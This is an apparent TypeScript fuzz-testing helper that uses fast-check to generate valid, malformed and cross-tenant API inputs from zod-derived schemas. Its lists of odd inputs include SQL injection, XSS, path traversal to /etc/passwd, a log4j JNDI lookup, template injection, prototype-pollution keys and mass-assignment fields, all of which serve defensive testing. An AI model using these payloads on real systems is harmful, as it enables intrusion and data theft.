import { PARTITION_ELEMENT_CODE } from '@roomtone/contracts';
import fc from 'fast-check';
import { z } from 'zod';
import { classroomCalc } from './workspace-fixtures.ts';

/** The part of JSON Schema that `z.toJSONSchema` writes for the API's schemas. */
export type JsonSchema = {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  enum?: unknown[];
  const?: unknown;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  exclusiveMaximum?: number;
  maxItems?: number;
  format?: string;
  pattern?: string;
};

/**
 * The input side of a route's zod schema as JSON Schema: the field names, types, lengths, ranges
 * and enums the generators follow. Refinements and transforms are not representable and are left
 * to the server to apply.
 */
export function jsonSchemaOf(schema: z.ZodType): JsonSchema {
  return z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any' }) as JsonSchema;
}

/** Real values of the caller's own tenant, and of another, so generated ids often hit stored records. */
export type FuzzIds = {
  /** Every uuid of the caller's records (projects, rooms, clients, members, finishes...). */
  uuids: string[];
  /** The caller's ids by field name, for fields that name one kind of record (`projectId`...). */
  byName: Record<string, string[]>;
  revisionNumbers: number[];
  /** E-mail addresses of existing accounts, the caller's organization's and the other's. */
  emails: string[];
  /** Uuids of another organization's records: any call naming one must be refused. */
  foreignUuids: string[];
};

/** Values that break numeric code: overflow, precision loss, negative zero, denormals. */
export const EDGE_NUMBERS = [
  1e308,
  -1e308,
  Number.MAX_SAFE_INTEGER + 2,
  -(Number.MAX_SAFE_INTEGER + 2),
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 63,
  1e21,
  5e-324,
  -0,
  0.5,
  -1,
  0,
];

/** Texts that trouble parsers, databases, HTML and case folding. */
const ODD_TEXTS = [
  '',
  ' ',
  '\t\n',
  '\u0000',
  'a\u0000b',
  '\u202eevil',
  '\u200b',
  '\ufeff',
  '\ud800',
  'e\u0301',
  '😀',
  '𝕳𝖊𝖑𝖑𝖔',
  'İ',
  'ß',
  '\u2028',
  "' OR '1'='1",
  '"; drop table users; --',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '../../etc/passwd',
  '%00',
  '%ZZ',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j lookup, meant literally
  '${jndi:ldap://example.com/a}',
  '{{7*7}}',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-1',
  '1e309',
  '0x1f',
  '[]',
  '{}',
  '__proto__',
];

/** Very long text of one repeated character (each repetition a different UTF-8 width). */
const longText = fc
  .tuple(fc.constantFrom(201, 1_001, 5_001, 100_001, 300_000), fc.constantFrom('a', 'é', '😀', ' ', '\u0000'))
  .map(([length, character]) => character.repeat(length));

/** Text the API should refuse or store safely: empty, control characters (NUL included), any unicode, very long. */
export const oddText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...ODD_TEXTS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }) },
  { weight: 1, arbitrary: longText },
);

/** Any value of the wrong kind for a field: other types, edge numbers, negatives, odd text, nesting. */
export const wrongValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(...EDGE_NUMBERS),
  fc.integer({ min: -1_000_000_000, max: -1 }),
  fc.double({ max: -1e-9, noNaN: true, noDefaultInfinity: true }),
  oddText,
  fc.constant(null),
  fc.boolean(),
  fc.array(fc.jsonValue({ maxDepth: 1 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }),
);

/** Keys a body should ignore: prototype pollution, and fields a caller must not set (mass assignment). */
export const extraKey: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '__proto__',
    'constructor',
    'prototype',
    'organizationId',
    'userId',
    'isAdmin',
    'admin',
    'role',
    'organizationRole',
    'planCode',
    'subscriptionType',
    '_id',
    'createdBy',
    'ownerUserId',
  ),
  fc.string({ maxLength: 12 }),
  fc.string({ unit: 'binary', maxLength: 5 }),
);

function typesOf(schema: JsonSchema): string[] {
  if (Array.isArray(schema.type)) return schema.type;
  return schema.type === undefined ? [] : [schema.type];
}

function isUuidField(schema: JsonSchema): boolean {
  return schema.format === 'uuid' || (schema.pattern?.includes('[0-9a-fA-F]{8}') ?? false);
}

function idsFor(name: string, ids: FuzzIds): string[] {
  const named = ids.byName[name];
  return named && named.length > 0 ? named : ids.uuids;
}

/**
 * A uuid for a field or parameter that looks a record up: most often a real id of the caller (by
 * the field's name when it names a kind), sometimes another organization's, else any.
 */
export function uuidValue(name: string, ids: FuzzIds): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...idsFor(name, ids)) },
    { weight: 1, arbitrary: fc.constantFrom(...ids.foreignUuids) },
    { weight: 1, arbitrary: fc.uuid({ version: 4 }) },
  );
}

/** A uuid in a text field that is not a lookup (a client's own code, say): never another tenant's. */
function ownUuidValue(name: string, ids: FuzzIds): fc.Arbitrary<string> {
  return fc.oneof(fc.constantFrom(...idsFor(name, ids)), fc.uuid({ version: 4 }));
}

const calendarDay = fc
  .date({ min: new Date('2000-01-01T00:00:00Z'), max: new Date('2099-12-31T00:00:00Z'), noInvalidDate: true })
  .map((date) => date.toISOString().slice(0, 10));

const quarterHour = fc
  .date({ min: new Date('2000-01-01T00:00:00Z'), max: new Date('2099-12-31T00:00:00Z'), noInvalidDate: true })
  .map((date) => {
    const onStep = new Date(date);
    onStep.setUTCMinutes(Math.floor(date.getUTCMinutes() / 15) * 15, 0, 0);
    return onStep.toISOString();
  });

/** Text within the schema's lengths, not blank when it must not be. */
function plainText(schema: JsonSchema): fc.Arbitrary<string> {
  const minLength = schema.minLength ?? 0;
  const maxLength = Math.min(schema.maxLength ?? 40, 40);
  return fc
    .string({ unit: 'grapheme-ascii', minLength: Math.min(minLength, maxLength), maxLength })
    .map((text) =>
      (minLength > 0 && text.trim() === '' ? `x${text}` : text).slice(0, Math.max(maxLength, 1)),
    );
}

/** An address most e-mail checks accept, and now and then one only the RFC does. */
const emailAddress = fc.oneof(
  {
    weight: 4,
    arbitrary: fc
      .tuple(
        fc.stringMatching(/^[a-z0-9][a-z0-9.+-]{0,15}$/),
        fc.constantFrom('example.com', 'roomtone.test'),
      )
      .map(([local, domain]) => `${local.replace(/\.+$/, '')}@${domain}`),
  },
  { weight: 1, arbitrary: fc.emailAddress() },
);

const password = fc.string({ unit: 'grapheme', minLength: 8, maxLength: 30 });

/**
 * A string for a field, by its schema and, for text the schema cannot describe (dates, e-mail
 * addresses piped through a transform, a calc document, ids checked after a pipe), by its name.
 */
function stringValue(name: string, schema: JsonSchema, ids: FuzzIds): fc.Arbitrary<string> {
  const key = name.toLowerCase();
  if (isUuidField(schema)) return uuidValue(name, ids);
  // In a body, `id` is a user-facing code (a client's, a project's); a name ending in Id looks up a record.
  if (name === 'id') return fc.oneof(ownUuidValue(name, ids), plainText(schema));
  if (name.endsWith('Id')) {
    return fc.oneof(
      { weight: 4, arbitrary: uuidValue(name, ids) },
      { weight: 1, arbitrary: plainText(schema) },
    );
  }
  if (key.includes('email') || key === 'username') {
    return fc.oneof(
      { weight: 1, arbitrary: fc.constantFrom(...ids.emails) },
      { weight: 5, arbitrary: emailAddress },
    );
  }
  if (key.includes('pass') || key === 'confirm') return password;
  if (key === 'from' || key === 'to') return calendarDay;
  if (key === 'timestamp') return quarterHour;
  if (key === 'calc') {
    return fc.oneof(
      fc.constant(JSON.stringify(classroomCalc())),
      fc.json({ maxDepth: 3 }),
      fc.jsonValue({ maxDepth: 2 }).map((value) => JSON.stringify(classroomCalc({ surfaces: value }))),
    );
  }
  if (key.includes('country')) return fc.constantFrom('GB', 'US', 'DE', 'JP', 'XX', 'gb');
  if (key.includes('url')) return fc.oneof(fc.webUrl(), fc.constant(''));
  if (key === 'vendorname')
    return fc.oneof(fc.stringMatching(/^[a-z0-9][a-z0-9-]{0,20}[a-z0-9]$/), fc.constant(''));
  if (key === 'description[]') return fc.stringMatching(PARTITION_ELEMENT_CODE);
  if (key === 'provider') return fc.constantFrom('google', 'facebook', 'github');
  if (key === 'token' || key === 'state') return fc.base64String({ minLength: 12, maxLength: 64 });
  return plainText(schema);
}

function integerValue(name: string, schema: JsonSchema, ids: FuzzIds): fc.Arbitrary<number> {
  if ((name === 'revId' || name === 'activeRTRevision') && ids.revisionNumbers.length > 0) {
    return fc.oneof(fc.constantFrom(...ids.revisionNumbers), fc.integer({ min: 1, max: 50 }));
  }
  const min = schema.minimum ?? (schema.exclusiveMinimum === undefined ? -1000 : schema.exclusiveMinimum + 1);
  const max = Math.min(schema.maximum ?? 1_000_000, Number.MAX_SAFE_INTEGER);
  return fc.integer({ min: Math.max(min, -1_000_000_000), max: Math.max(Math.min(max, 1_000_000_000), min) });
}

function numberValue(schema: JsonSchema): fc.Arbitrary<number> {
  const min = schema.minimum ?? -1000;
  const max = schema.maximum ?? 1_000_000;
  return fc
    .double({ min, max, noNaN: true, noDefaultInfinity: true })
    .map((value) => Math.min(max, Math.max(min, Math.round(value * 100) / 100)));
}

/** An object with the schema's properties: the required ones always, the others sometimes. */
function objectValue(schema: JsonSchema, ids: FuzzIds): fc.Arbitrary<Record<string, unknown>> {
  const properties = schema.properties ?? {};
  const model: Record<string, fc.Arbitrary<unknown>> = {};
  for (const [name, property] of Object.entries(properties)) model[name] = validish(property, ids, name);
  const requiredKeys = (schema.required ?? []).filter((name) => name in properties);
  const record = fc.record(model, { requiredKeys });
  const repeated = ['newPassword', 'password'].find((name) => name in properties);
  if (!repeated || !('confirm' in properties)) return record;
  // A confirmation usually repeats the password, as a form sends it.
  return fc
    .tuple(record, fc.nat(4))
    .map(([value, draw]) => (draw > 0 ? { ...value, confirm: value[repeated] } : value));
}

/** A value of the schema's shape, plausible enough to pass most checks and reach the service. */
export function validish(schema: JsonSchema, ids: FuzzIds, name = ''): fc.Arbitrary<unknown> {
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum && schema.enum.length > 0) return fc.constantFrom(...schema.enum);
  const choices = schema.anyOf ?? schema.oneOf;
  if (choices && choices.length > 0) return fc.oneof(...choices.map((choice) => validish(choice, ids, name)));
  const [first] = schema.allOf ?? [];
  if (first) return validish(first, ids, name);
  const types = typesOf(schema);
  if (types.length > 1) return fc.oneof(...types.map((type) => validish({ ...schema, type }, ids, name)));
  switch (types[0]) {
    case 'object':
      return objectValue(schema, ids);
    case 'array':
      return fc.array(validish(schema.items ?? {}, ids, `${name}[]`), {
        maxLength: Math.min(schema.maxItems ?? 4, 4),
      });
    case 'string':
      return stringValue(name, schema, ids);
    case 'integer':
      return integerValue(name, schema, ids);
    case 'number':
      return numberValue(schema);
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

/** One change that makes an object wrong for its schema. */
type Mutation =
  | { kind: 'set'; key: string; value: unknown }
  | { kind: 'remove'; key: string }
  | { kind: 'add'; key: string; value: unknown }
  | { kind: 'array'; key: string };

function mutationOf(schema: JsonSchema): fc.Arbitrary<Mutation> {
  const keys = Object.keys(schema.properties ?? {});
  const required = (schema.required ?? []).filter((key) => keys.includes(key));
  const add = fc.record({
    kind: fc.constant('add' as const),
    key: extraKey,
    value: fc.oneof(wrongValue, fc.jsonValue({ maxDepth: 2 })),
  });
  const options: fc.Arbitrary<Mutation>[] = [add];
  if (keys.length > 0) {
    options.push(
      fc.record({ kind: fc.constant('set' as const), key: fc.constantFrom(...keys), value: wrongValue }),
      fc.record({ kind: fc.constant('array' as const), key: fc.constantFrom(...keys) }),
    );
  }
  if (required.length > 0) {
    options.push(fc.record({ kind: fc.constant('remove' as const), key: fc.constantFrom(...required) }));
  }
  return fc.oneof(...options);
}

function applyMutations(value: unknown, mutations: Mutation[]): unknown {
  if (typeof value !== 'object' || value === null || Array.isArray(value)) return value;
  const changed: Record<string, unknown> = { ...value };
  for (const mutation of mutations) {
    if (mutation.kind === 'remove') delete changed[mutation.key];
    else if (mutation.kind === 'array') changed[mutation.key] = [changed[mutation.key] ?? null];
    // defineProperty, so a key named __proto__ is an own key (as JSON.parse makes it), not the prototype.
    else
      Object.defineProperty(changed, mutation.key, {
        value: mutation.value,
        enumerable: true,
        writable: true,
        configurable: true,
      });
  }
  return changed;
}

/**
 * Values for an object schema (a body or a query): near-valid ones, ones with one to three fields
 * wrong, missing or added, an array where the object belongs, and arbitrary JSON.
 */
export function objectInput(schema: JsonSchema, ids: FuzzIds): fc.Arbitrary<unknown> {
  const base = validish(schema, ids);
  return fc.oneof(
    { weight: 2, arbitrary: base },
    {
      weight: 6,
      arbitrary: fc
        .tuple(base, fc.array(mutationOf(schema), { minLength: 1, maxLength: 3 }))
        .map(([value, mutations]) => applyMutations(value, mutations)),
    },
    { weight: 1, arbitrary: base.map((value) => [value]) },
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  );
}

/**
 * Path segments sent as they are, not encoded again: broken percent-encodings, overlong UTF-8,
 * encoded dots and NUL. The router must refuse them with the envelope.
 */
export const RAW_PATH_SEGMENTS: readonly string[] = [
  '%ZZ',
  '%',
  '%E0%A4%A',
  '%C0%AE%C0%AE',
  '%2e%2e',
  '%FF',
  '%00',
];

/** A path parameter: a real id (the caller's or another's), a value of its schema, or anything a URL can carry. */
export function paramInput(name: string, schema: JsonSchema | undefined, ids: FuzzIds): fc.Arbitrary<string> {
  // Every parameter looks something up, so another organization's ids belong among its values.
  const own = name === 'revId' ? fc.constantFrom(...ids.revisionNumbers.map(String)) : uuidValue(name, ids);
  const shaped = schema ? validish(schema, ids, name).map((value) => String(value)) : fc.string();
  const odd = fc.oneof(
    oddText,
    fc.constantFrom(...EDGE_NUMBERS).map(String),
    fc.constantFrom(
      '00000000-0000-0000-0000-000000000000',
      'FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF',
      '{3f2504e0-4f89-11d3-9a0c-0305e82c3301}',
      '1.5',
      '1e3',
      'a/b',
      '..',
      // Names every plain object inherits: a lookup by them must find nothing, not the prototype.
      'constructor',
      'toString',
      'hasOwnProperty',
      'x'.repeat(763),
    ),
  );
  return fc.oneof(
    { weight: 3, arbitrary: own },
    { weight: 2, arbitrary: shaped },
    { weight: 3, arbitrary: odd },
  );
}

function textOf(value: unknown): string {
  if (typeof value === 'string') return value;
  if (typeof value === 'object' && value !== null) return JSON.stringify(value);
  return String(value ?? '');
}

/** A query as the URL carries it: each value as text, each item of an array as a repeated key. */
export function queryEntries(value: unknown): [string, string][] {
  if (typeof value !== 'object' || value === null || Array.isArray(value)) return [['value', textOf(value)]];
  const entries: [string, string][] = [];
  for (const [key, item] of Object.entries(value)) {
    for (const one of Array.isArray(item) ? item : [item]) entries.push([key, textOf(one)]);
  }
  return entries;
}
